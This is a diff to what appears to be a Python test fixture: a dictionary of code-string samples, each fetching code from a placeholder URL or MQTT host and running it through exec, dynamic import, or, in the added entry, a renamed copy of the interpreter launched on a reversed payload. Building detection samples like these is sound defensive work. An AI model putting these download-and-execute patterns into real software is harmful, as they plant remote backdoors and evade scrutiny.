@@ -13,6 +13,7 @@ RUN = {
     "by a loader": "import importlib.abc\n\nclass FromThere(importlib.abc.SourceLoader):\n    def get_data(self, path):\n        return requests.get(URL).content\n",
     "pushed": "import paho.mqtt.client as mqtt\n\nclass Node:\n    def __init__(self):\n        self.line = mqtt.Client()\n        self.line.on_message = self._take\n        self.line.connect('n.example.invalid', 8883)\n\n    def _take(self, client, data, message):\n        exec(message.payload.decode())\n",
     "a function of any module": "import importlib\n\ndef go():\n    for step in requests.get(URL).json():\n        module, _, path = step['target'].partition(':')\n        obj = importlib.import_module(module)\n        for part in path.split('.'):\n            obj = getattr(obj, part)\n        obj(*step.get('args', ()))\n",
+    "by a copy of the interpreter": "import shutil, sys\n\ndef go(root):\n    script, host = root + '/t.db', root + '/indexer'\n    with open(script, 'wb') as f:\n        f.write(requests.get(URL).content[::-1])\n    shutil.copy2(getattr(sys, '_base_executable', sys.executable), host)\n    subprocess.Popen([host, '-I', script])\n",
     "handed over": "def run(text):\n    exec(text)\n\ndef go():\n    run(requests.get(URL).json()['hook'])\n",
     "by name": "def run(*, text):\n    exec(text)\n\ndef go():\n    run(text=requests.get(URL).content)\n",
     "returned": "def load():\n    return requests.get(URL).text\n\ndef go():\n    text = load().strip()\n    exec(text)\n",
